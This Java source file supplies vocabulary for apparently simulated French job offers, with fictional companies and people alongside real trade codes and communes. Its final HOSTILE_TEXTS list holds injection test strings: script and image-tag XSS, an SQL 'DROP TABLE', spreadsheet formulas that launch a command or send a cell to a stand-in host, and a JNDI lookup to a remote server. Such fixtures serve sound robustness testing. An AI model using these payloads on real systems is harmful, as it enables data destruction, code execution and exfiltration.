package fr.relais.simulator;

import java.util.List;

/** The values from which offers are generated. Companies and people are fictional; codes and communes are real. */
final class Vocabulary {

    /** A label with a code, such as a trade, a skill or a sector. */
    record Coded(String code, String label) {}

    /** A commune with its INSEE code and the coordinates of its centre. */
    record Commune(String insee, String postalCode, String label, double latitude, double longitude) {}

    static final List<Coded> TRADES = List.of(
            new Coded("G1602", "Personnel de cuisine"),
            new Coded("G1803", "Service en restauration"),
            new Coded("J1506", "Soins infirmiers généralistes"),
            new Coded("K1304", "Services domestiques"),
            new Coded("K2204", "Nettoyage de locaux"),
            new Coded("M1805", "Études et développement informatique"),
            new Coded("M1203", "Comptabilité"),
            new Coded("M1607", "Secrétariat"),
            new Coded("F1703", "Maçonnerie"),
            new Coded("H2902", "Chaudronnerie - tôlerie"),
            new Coded("N1103", "Magasinage et préparation de commandes"),
            new Coded("N4101", "Conduite de transport de marchandises sur longue distance"),
            new Coded("D1106", "Vente en alimentation"),
            new Coded("D1507", "Mise en rayon libre-service"),
            new Coded("A1203", "Aménagement et entretien des espaces verts"),
            new Coded("I1203", "Maintenance des bâtiments et des locaux"));

    static final List<String> TITLES = List.of(
            "Cuisinier / Cuisinière",
            "Serveur / Serveuse en salle",
            "Infirmier / Infirmière",
            "Aide à domicile",
            "Agent / Agente d'entretien",
            "Développeur / Développeuse web",
            "Comptable confirmé·e",
            "Assistant / Assistante de gestion",
            "Maçon / Maçonne N3P2",
            "Chaudronnier-soudeur / Chaudronnière-soudeuse",
            "Préparateur / Préparatrice de commandes – caces® 1",
            "Conducteur / Conductrice SPL",
            "Vendeur / Vendeuse en boulangerie-pâtisserie",
            "Employé / Employée libre-service",
            "Jardinier paysagiste / Jardinière paysagiste",
            "Agent / Agente de maintenance des bâtiments");

    static final List<Commune> COMMUNES = List.of(
            new Commune("75110", "75010", "75 - PARIS 10", 48.875903, 2.359985),
            new Commune("69383", "69003", "69 - LYON 03", 45.760376, 4.849641),
            new Commune("13201", "13001", "13 - MARSEILLE 01", 43.299917, 5.384336),
            new Commune("31555", "31000", "31 - TOULOUSE", 43.604652, 1.444209),
            new Commune("44109", "44000", "44 - NANTES", 47.218371, -1.553621),
            new Commune("33063", "33000", "33 - BORDEAUX", 44.837789, -0.57918),
            new Commune("59350", "59800", "59 - LILLE", 50.62925, 3.057256),
            new Commune("67482", "67000", "67 - STRASBOURG", 48.573405, 7.752111),
            new Commune("35238", "35000", "35 - RENNES", 48.117266, -1.677793),
            new Commune("34172", "34000", "34 - MONTPELLIER", 43.610769, 3.876716),
            new Commune("06088", "06000", "06 - NICE", 43.710173, 7.261953),
            new Commune("2A004", "20000", "2A - AJACCIO", 41.919229, 8.738635),
            new Commune("97411", "97400", "974 - ST DENIS", -20.88231, 55.4504),
            new Commune("29019", "29200", "29 - BREST", 48.390394, -4.486076),
            new Commune("63113", "63000", "63 - CLERMONT FERRAND", 45.777222, 3.087025),
            new Commune("42218", "42000", "42 - ST ETIENNE", 45.439695, 4.387178),
            new Commune("25056", "25000", "25 - BESANCON", 47.237829, 6.024054),
            new Commune("05061", "05000", "05 - GAP", 44.559638, 6.079758));

    /** Places without a commune, some also without a département. */
    static final List<String> VAGUE_PLACES =
            List.of("France", "Île-de-France", "Bretagne", "38 - Isère", "2B - Haute-Corse", "85 - Vendée", "Étranger");

    static final List<Coded> CONTRACTS = List.of(
            new Coded("CDI", "Contrat à durée indéterminée"),
            new Coded("CDD", "Contrat à durée déterminée - 6 Mois"),
            new Coded("MIS", "Mission intérimaire - 3 Mois"),
            new Coded("SAI", "Contrat travail saisonnier - 4 Mois"),
            new Coded("LIB", "Profession libérale"),
            new Coded("DIN", "CDI Intérimaire"));

    static final List<String> NATURES =
            Facet.NATURE_CODES.keySet().stream().sorted().toList();

    static final List<Coded> EXPERIENCES = List.of(
            new Coded("D", "Débutant accepté"),
            new Coded("E", "6 Mois"),
            new Coded("E", "1 An(s)"),
            new Coded("E", "2 An(s)"),
            new Coded("E", "5 An(s)"),
            new Coded("S", "Expérience souhaitée"),
            new Coded("E", "Expérience exigée (1)"));

    static final List<Coded> QUALIFICATIONS = List.of(
            new Coded("1", "Manœuvre"),
            new Coded("3", "Ouvrier qualifié (P1,P2)"),
            new Coded("5", "Employé non qualifié"),
            new Coded("6", "Employé qualifié"),
            new Coded("7", "Technicien"),
            new Coded("8", "Agent de maîtrise"),
            new Coded("9", "Cadre"));

    static final List<Coded> SKILLS = List.of(
            new Coded("101856", "Entretenir un espace de vie, un plan de travail, du matériel"),
            new Coded("104501", "Accueillir, orienter, renseigner un public"),
            new Coded("117241", "Respecter les règles de Qualité, Hygiène, Sécurité et Environnement (QHSE)"),
            new Coded("122591", "Organiser son poste de travail en fonction de l'activité"),
            new Coded("300425", "Travailler en équipe pluridisciplinaire"),
            new Coded("121290", "Réaliser un suivi des stocks et préparer les réapprovisionnements"),
            new Coded("484021", "Lire et interpréter un plan, un schéma, une notice technique"),
            new Coded("125977", "Tenir à jour les documents de bord et de livraison"));

    static final List<Coded> SECTORS = List.of(
            new Coded("56.10A", "Restauration traditionnelle"),
            new Coded("78.20Z", "Activités des agences de travail temporaire"),
            new Coded("88.10A", "Aide à domicile"),
            new Coded("62.02A", "Conseil en systèmes et logiciels informatiques"),
            new Coded("49.41A", "Transports routiers de fret interurbains"),
            new Coded("47.11F", "Hypermarchés"),
            new Coded("43.99C", "Travaux de maçonnerie générale et gros œuvre de bâtiment"));

    static final List<Coded> QUALITIES = List.of(
            new Coded(
                    "Faire preuve d'autonomie",
                    "Capacité à prendre en charge son activité sans devoir être encadré en continu, sans s'isoler ni "
                            + "omettre d'informer."),
            new Coded(
                    "Faire preuve de rigueur et de précision",
                    "Capacité à réaliser des tâches en suivant avec exactitude les règles, les procédures, les "
                            + "instructions qui ont été fournies."),
            new Coded(
                    "Travailler en équipe",
                    "Capacité à travailler et à se coordonner avec les autres au sein de l'entreprise, en confiance "
                            + "et en transparence."),
            new Coded(
                    "Avoir le sens du service",
                    "Capacité à être à l'écoute et à répondre aux besoins d'une personne, d'un client, d'un groupe."));

    static final List<Coded> LEVELS = List.of(
            new Coded("42757", "CAP, BEP et équivalents"),
            new Coded("31054", "Bac ou équivalent"),
            new Coded("32654", "Bac+2 ou équivalents"),
            new Coded("15054", "Bac+5 et plus ou équivalents"));

    static final List<String> PAY = List.of(
            "Horaire de 12.02 Euros",
            "Mensuel de 1850.0 Euros à 2100.0 Euros sur 12.0 mois",
            "Annuel de 28000.0 Euros à 34000.0 Euros sur 13.0 mois",
            "Mensuel de 2450,50 Euros sur 13 mois");

    static final List<String> WORKING_HOURS = List.of(
            "35H/semaine\nTravail en journée",
            "24H/semaine\nTravail le samedi",
            "39H/semaine\nHoraires variables",
            "35H/semaine\nTravail en 3x8");

    static final List<String> STAFF_SIZES =
            List.of("0 salarié", "1 ou 2 salariés", "10 à 19 salariés", "100 à 199 salariés", "500 à 999 salariés");

    static final List<String> COMPANY_KINDS =
            List.of("Ateliers", "Boulangerie", "Transports", "Résidence", "Groupe", "Société", "Éts", "Clinique");

    static final List<String> COMPANY_NAMES = List.of(
            "Brimolande",
            "Çervélune",
            "d'Ostrévigne",
            "Épinolac",
            "Fauquerolle & Fils",
            "Graticœur",
            "Houlvédric",
            "Joncherane",
            "Lazurbise",
            "Mérivoltan",
            "Nœudargent",
            "Orfeuilloux",
            "Quiberlan",
            "Vantelouse");

    static final List<String> PEOPLE =
            List.of("Mme Adélaïde Vercastel", "M. Zéphyrin Ostrolle", "Mme Noëlie Fauquignan", "M. Gaëtan Brimoulard");

    static final List<String> SENTENCES = List.of(
            "Nous recherchons une personne motivée pour renforcer notre équipe dans le cadre d'un accroissement "
                    + "d'activité.",
            "Vous serez chargé(e) de l'accueil des clients, de la préparation des commandes et de l'entretien de "
                    + "votre espace de travail.",
            "Rattaché(e) au responsable de site, vous participez aux réunions hebdomadaires et rendez compte de "
                    + "l'avancement de vos tâches.",
            "Poste à pourvoir dès que possible, formation interne assurée par un tuteur pendant les quatre premières "
                    + "semaines.",
            "Vos missions principales :\n- contrôler la conformité des livraisons ;\n- signaler les anomalies ;\n- "
                    + "veiller au respect des consignes de sécurité.",
            "Le permis B est souhaité car le site n'est pas desservi par les transports en commun avant 6 h.",
            "Avantages : mutuelle d'entreprise, titres-restaurant à 9,50 €, prime d'ancienneté et œuvres sociales du "
                    + "CSE.",
            "Débutant(e) accepté(e) : c'est votre envie d'apprendre qui fera la différence !",
            "Travail du lundi au vendredi, un samedi sur deux en haute saison, deux jours de repos consécutifs.",
            "Doté(e) d'un bon relationnel, vous savez garder votre calme et gérer les priorités même en période de "
                    + "forte affluence.",
            "La maîtrise des outils bureautiques et une bonne orthographe sont indispensables pour ce poste.",
            "Tous nos postes sont ouverts, à compétences égales, aux personnes en situation de handicap.",
            "Envie de rejoindre l'aventure ? 🚀 Postulez en quelques clics, réponse garantie sous 48 h ✅",
            "Rémunération selon profil et expérience, évolutive après la période d'essai de deux mois renouvelable.",
            "PROFIL RECHERCHÉ\n• Titulaire d'un diplôme de niveau CAP à Bac+2\n• Expérience d'au moins un an "
                    + "appréciée\n• Sens de l'initiative",
            "Le « plus » de ce poste : une équipe soudée, un cadre de travail agréable et de vraies perspectives "
                    + "d'évolution.");

    /** Texts that do harm when they are carelessly printed, logged, put into a query, evaluated or opened. */
    static final List<String> HOSTILE_TEXTS = List.of(
            "<script>alert('offre')</script>",
            "\"><img src=x onerror=alert(1)>",
            "</textarea></title><!-- ]]> &amp;lt;b&gt; &#x27;",
            "Robert'); DROP TABLE offer;-- ",
            "\\ \\\\ \" \\\" ' \\' \\u0041 %s %n %00 \\N",
            "\u0000 \u0001 \b \t \u000b \f \r\n \u001b[31m \u007f \u0085",
            "\u202etxet desrever\u202c \u200f\u200e \u2066isolé\u2069",
            "ligne\u2028séparée, paragraphe\u2029séparé, espace\u00a0insécable\u202f!, nul\u200ble, \ufeff",
            "=HYPERLINK(\"http://tableur.example/?f=\"&A1;\"Cliquez\")",
            "+CMD|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "${jndi:ldap://journal.example/a} ${body} ${env:PATH} {{relais.source.client-secret}} #{1+1} :#id",
            "😀 👩🏽‍🍳 👨‍👩‍👧‍👦 🇫🇷 e\u0301 ﬁ Z̸̡̛͈a̵l̶g̷o 𝓔𝓶𝓹𝓵𝓸𝓲 漢字 עברית العربية");

    private Vocabulary() {}
}
